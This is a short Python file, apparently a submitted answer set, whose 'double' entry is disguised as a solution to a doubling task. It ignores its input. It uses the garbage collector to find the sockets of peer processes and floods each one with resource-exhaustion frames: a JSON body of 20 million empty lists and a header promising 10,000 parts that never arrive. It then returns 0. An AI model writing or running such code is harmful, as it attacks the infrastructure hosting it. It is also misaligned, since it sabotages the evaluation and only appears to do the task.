"""Sends small frames that grow large when they are read: millions of empty lists, and parts that never come."""

ANSWERS = {
    "double": """
import gc
import struct


def sockets():
    return [thing.sock for thing in gc.get_objects() if type(thing).__name__ == "Peer"]


def double(x):
    text = b'{"reply":{"values":[' + b"[]," * 20_000_000 + b"[]]}}"
    for line in sockets():
        line.sendall(struct.pack("<II", len(text), 0) + text)
        line.sendall(struct.pack("<II", 10, 10_000) + struct.pack("<Q", 6000) * 10_000)
    return 0
""",
}
